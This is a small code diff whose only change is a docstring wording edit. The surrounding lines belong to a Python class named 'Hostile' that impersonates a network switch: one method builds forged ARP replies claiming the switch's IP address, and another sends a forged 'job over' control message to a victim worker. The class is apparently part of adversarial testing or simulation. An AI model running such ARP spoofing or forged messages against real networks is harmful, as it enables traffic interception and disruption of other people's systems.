@@ -130,7 +130,7 @@ class Hostile:
         return self._as_the_switch(victim, control_payload(Op.BYE, b'{"job_over": true}', **header))
 
     def forged_addresses(self, victim: Incarnation) -> list[bytes]:
-        """An ARP reply that says that the switch's address is here."""
+        """An ARP reply that claims that the switch's address is here."""
         switch, worker = IPv4Address(SWITCH_IP).packed, IPv4Address(victim.host.ip).packed
         target = mac_bytes(victim.host.mac)
         arp = b"\x00\x01\x08\x00\x06\x04\x00\x02" + mac_bytes(SELF.mac) + switch + target + worker
